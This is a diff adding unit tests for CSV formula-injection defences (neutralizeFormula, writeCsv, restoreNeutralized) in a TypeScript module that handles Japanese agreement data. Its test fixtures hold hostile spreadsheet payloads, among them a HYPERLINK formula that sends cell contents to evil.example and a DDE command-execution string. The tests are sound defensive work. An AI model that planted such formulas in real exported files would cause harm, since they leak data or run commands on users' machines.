@@ -2,7 +2,7 @@ import ExcelJS from "exceljs";
 import iconv from "iconv-lite";
 import { describe, expect, it } from "vitest";
 import { isAppError } from "./errors";
-import { readTabular } from "./tabular.server";
+import { neutralizeFormula, readTabular, restoreNeutralized, writeCsv } from "./tabular.server";
 
 const csv = "協定名,締結先,締結日\r\n㈱髙橋①商事との協定,\"髙橋①商事、金沢大学\",令和5年4月1日\r\n,,\r\n\"二行の\n名称\",相手,2023/4/1\r\n";
 
@@ -59,5 +59,34 @@ describe("readTabular", () => {
     expect(await fieldErrorOf(readTabular(Buffer.from('a,b\r\n"unclosed,1\r\n'), "a.csv"))).toBe("file:validation.tabular.unreadable");
     const many = `見出し\r\n${"行\r\n".repeat(10_001)}`;
     expect(await fieldErrorOf(readTabular(Buffer.from(many), "a.csv"))).toBe("file:validation.tabular.tooManyRows");
+  });
+});
+
+describe("writeCsv (CSV formula injection)", () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81-3-1234", "-2+3", "@SUM(A1:A2)", "\tindent", "\rreturn", "=cmd|' /C calc'!A0"];
+
+  it("prefixes every cell that starts with = + - @ TAB or CR with a single quote, and nothing else", () => {
+    for (const cell of hostile) expect(neutralizeFormula(cell)).toBe(`'${cell}`);
+    for (const cell of ["協定", "", "a=b", "'quoted", "010006", "2026-04-01", "＝全角"]) expect(neutralizeFormula(cell)).toBe(cell);
+    const text = writeCsv([["名称"], ...hostile.map((c) => [c])], "utf-8").toString("utf8");
+    for (const line of text.replace(/^\uFEFF/, "").split("\r\n").slice(1, -1)) expect(line).toMatch(/^"?'/);
+  });
+
+  it("reads its own CSV back unchanged, in UTF-8 and Shift_JIS", async () => {
+    const rows = [["名称", "相手方"], ...hostile.map((c, i) => [`協定${i}`, c]), ["'=引用符つき", "'平文"]];
+    for (const encoding of ["utf-8", "shift_jis"] as const) {
+      const read = await readTabular(writeCsv(rows, encoding), "export.csv");
+      // Cells are trimmed on reading (tab and CR at the start included), as before.
+      expect(read.rows.map((r) => r[1])).toEqual([...hostile.map((c) => c.trim()), "'平文"]);
+      expect(read.rows.at(-1)![0]).toBe("'=引用符つき");
+    }
+  });
+
+  it("restores only a quote the writer added", () => {
+    expect(restoreNeutralized("'=1+1")).toBe("=1+1");
+    expect(restoreNeutralized("''=1+1")).toBe("'=1+1");
+    expect(restoreNeutralized("'abc")).toBe("'abc");
+    expect(restoreNeutralized("=1+1")).toBe("=1+1");
+    for (const cell of ["'=x", "''-1", "'a", "x", "=y"]) expect(restoreNeutralized(neutralizeFormula(cell))).toBe(cell);
   });
 });
